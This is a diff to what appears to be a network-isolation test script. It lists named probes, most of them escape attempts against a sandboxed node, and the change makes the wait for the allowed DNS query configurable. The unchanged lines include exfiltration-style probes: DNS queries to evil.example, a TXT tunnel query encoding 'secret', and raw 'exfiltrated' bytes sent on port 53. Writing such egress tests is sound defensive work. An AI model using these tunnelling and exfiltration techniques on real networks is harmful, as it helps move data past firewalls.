@@ -12,6 +12,8 @@ args = json.loads(sys.argv[1])
 SELF4, SELF6, OTHER4, OTHER6 = args["self4"], args["self6"], args["other4"], args["other6"]
 NODE4, NODE6, LINK, GATEWAY = args["node4"], args["node6"], args.get("link", "eth0"), args["gatewayMac"]
 WAIT_S = 0.25
+# For names, where somebody is there to answer: a busy machine takes its time.
+ANSWER_S = 20 if args.get("isAnswered") else WAIT_S
 ATTACKS = {}
 ETH = {4: 0x0800, 6: 0x86DD}
 
@@ -135,8 +137,7 @@ attack("tcp4-mapped")(lambda n: connect(f"::ffff:{d4(n)}", 443))
 attack("nat64")(lambda n: connect(f"64:ff9b::198.18.0.{n}", 443))
 attack("dns-udp4")(lambda n: send(d4(n), 53, question("evil.example")))
 attack("dns-udp6")(lambda n: send(d6(n), 53, question("evil.example")))
-# The one that is answered: a busy machine takes its time for it.
-attack("dns-allowed")(lambda n: send(d4(n), 53, question("allowed.example"), wait_s=20))
+attack("dns-allowed")(lambda n: send(d4(n), 53, question("allowed.example"), wait_s=ANSWER_S))
 attack("dns-txt-tunnel")(lambda n: send(d4(n), 53, question("c2VjcmV0.evil.example", 16)))
 attack("dns-tcp4")(lambda n: connect(d4(n), 53, b"\0\x1e" + question("evil.example")))
 attack("not-dns-on-53")(lambda n: send(d4(n), 53, b"exfiltrated"))
